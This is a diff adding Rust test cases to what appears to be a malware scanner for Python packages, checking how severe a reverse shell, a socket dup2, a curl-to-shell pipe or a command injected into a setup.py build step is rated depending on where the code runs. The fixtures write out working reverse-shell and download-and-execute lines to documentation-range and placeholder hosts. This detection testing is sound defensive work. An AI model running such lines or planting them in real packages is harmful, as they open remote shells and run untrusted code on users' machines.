@@ -159,6 +159,7 @@ fn cases() -> Vec<Case> {
         case("proc-spawn", m, r#"subprocess.Popen(["ls"])"#, "popen_count = 0"),
         case("proc-hidden", m, "subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)", "subprocess.Popen(cmd)"),
         case("proc-reverse-shell", m, r#"os.system("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1")"#, r#"os.system("bash -c true")"#),
+        case("proc-socket-dup2", m, "os.dup2(s.fileno(), 0)", "os.dup2(log_fd, 1)"),
         case("proc-runtime-pip", m, r#"subprocess.call([sys.executable, "-m", "pip", "install", "x"])"#, "import pipes"),
         case("fs-write", m, "f.write(data)", "data = f.read()"),
         case("persist-pth-write", m, r#"open(os.path.join(site, "evil_init.pth"), "w").write(line)"#, r#"paths = glob.glob("*.pth")"#),
@@ -567,8 +568,8 @@ fn held_text_that_never_runs_is_prose() {
         "    subprocess.run([\"powershell\", \"-Command\", script])\n",
     );
     assert_eq!(
-        max_severity(&ran, Role::Module, "dl-shell-pipe"),
-        Some(Severity::High)
+        max_severity(&ran, Role::Import, "dl-shell-pipe"),
+        Some(Severity::Critical)
     );
     // A one-line string assigned to a name stays code (a URL constant).
     let url = "URL = \"https://payload.invalid/drop.exe\"\n";
@@ -683,6 +684,119 @@ fn a_webhook_client_is_not_a_hard_coded_webhook() {
             max_severity(fixed, Role::Import, "exfil-discord-webhook"),
             Some(Severity::High),
             "{fixed}"
+        );
+    }
+}
+
+#[test]
+fn runtime_only_library_functions_cap_single_hits_at_medium() {
+    let body = "def helper():\n    os.system(\"curl -s https://payload.invalid/i.sh | sh\")\n";
+    // A library function nothing runs at import: a user must call it.
+    assert_eq!(
+        max_severity(body, Role::Module, "dl-shell-pipe"),
+        Some(Severity::Medium)
+    );
+    // So is a `__main__` block.
+    let main = format!("{body}if __name__ == \"__main__\":\n    helper()\n");
+    assert_eq!(
+        max_severity(&main, Role::Module, "dl-shell-pipe"),
+        Some(Severity::Medium)
+    );
+    // Named by import-time code (a call, a callback, a decorator, through a
+    // caller, a class instantiated at import): it runs on import.
+    for reach in [
+        "helper()\n",
+        "threading.Thread(target=helper).start()\n",
+        "def outer():\n    helper()\n\nouter()\n",
+        "class C:\n    def __init__(self):\n        helper()\n\nC()\n",
+        "@helper\ndef g():\n    pass\n",
+    ] {
+        let src = format!("{body}{reach}");
+        assert_eq!(
+            max_severity(&src, Role::Module, "dl-shell-pipe"),
+            Some(Severity::High),
+            "{reach}"
+        );
+    }
+    // A name in a string or a comment at import time does not run it.
+    let named = format!("{body}__all__ = [\"helper\"]  # helper\n");
+    assert_eq!(
+        max_severity(&named, Role::Module, "dl-shell-pipe"),
+        Some(Severity::Medium)
+    );
+    // Install and import files are not capped, nor are full-weight shapes.
+    assert_eq!(
+        max_severity(body, Role::Install, "dl-shell-pipe"),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        max_severity(body, Role::Import, "dl-shell-pipe"),
+        Some(Severity::Critical)
+    );
+    let shell = "def f():\n    os.system(\"bash -i >& /dev/tcp/198.51.100.1/4444 0>&1\")\n";
+    assert_eq!(
+        max_severity(shell, Role::Module, "proc-reverse-shell"),
+        Some(Severity::Critical)
+    );
+}
+
+#[test]
+fn a_socket_dup2_weighs_where_it_runs() {
+    // A log forwarder's library function (awslambdaric's shape) is medium;
+    // at import it is high, in setup.py critical.
+    let forward = "def redirect(s, fd):\n    os.dup2(s.fileno(), fd)\n";
+    assert_eq!(
+        max_severity(forward, Role::Module, "proc-socket-dup2"),
+        Some(Severity::Medium)
+    );
+    let shell =
+        "s = socket.socket()\ns.connect((\"198.51.100.1\", 4444))\nos.dup2(s.fileno(), 0)\n";
+    assert_eq!(
+        max_severity(shell, Role::Module, "proc-socket-dup2"),
+        Some(Severity::High)
+    );
+    assert_eq!(
+        max_severity(shell, Role::Install, "proc-socket-dup2"),
+        Some(Severity::Critical)
+    );
+}
+
+#[test]
+fn a_pipe_to_shell_with_nothing_to_download_is_a_description() {
+    // A detector's pattern table (openhands-sdk's shape).
+    let table = "PATTERNS = [\n    (\n        r\"\\bcurl\\b[^|]{0,200}\\|\\s*(?:ba)?sh\\b\",\n        \"Download and run (curl | sh)\",\n    ),\n    (r\"x\", \"wget|bash\"),\n]\n";
+    assert_eq!(max_severity(table, Role::Import, "dl-shell-pipe"), None);
+    let real = "os.system(\"curl https://payload.invalid/i.sh | sh\")\n";
+    assert_eq!(
+        max_severity(real, Role::Import, "dl-shell-pipe"),
+        Some(Severity::Critical)
+    );
+}
+
+#[test]
+fn a_build_tool_through_a_local_variable_is_a_build_step() {
+    // pyodps's setup.py shape: the command is a literal held in a variable,
+    // extended with arguments only.
+    let build = "class BuildJS(install):\n    def run(self):\n        cmd = \"npm install\"\n        if self.registry:\n            cmd += \" --registry=\" + self.registry\n        ret = os.system(cmd)\n\nsetup(cmdclass={\"build_js\": BuildJS})\n";
+    assert_eq!(
+        max_severity(build, Role::Install, "combo-install-hook-process"),
+        None
+    );
+    // A shell operator appended, another program, or a value that is not a
+    // whole literal: a process.
+    for (from, to) in [
+        (
+            "\" --registry=\"",
+            "\"; curl -s https://payload.invalid/x | sh\"",
+        ),
+        ("\"npm install\"", "\"python -c 'import os'\""),
+        ("\"npm install\"", "\"npm\" + suffix"),
+    ] {
+        let src = build.replace(from, to);
+        assert_eq!(
+            max_severity(&src, Role::Install, "combo-install-hook-process"),
+            Some(Severity::High),
+            "{to}"
         );
     }
 }
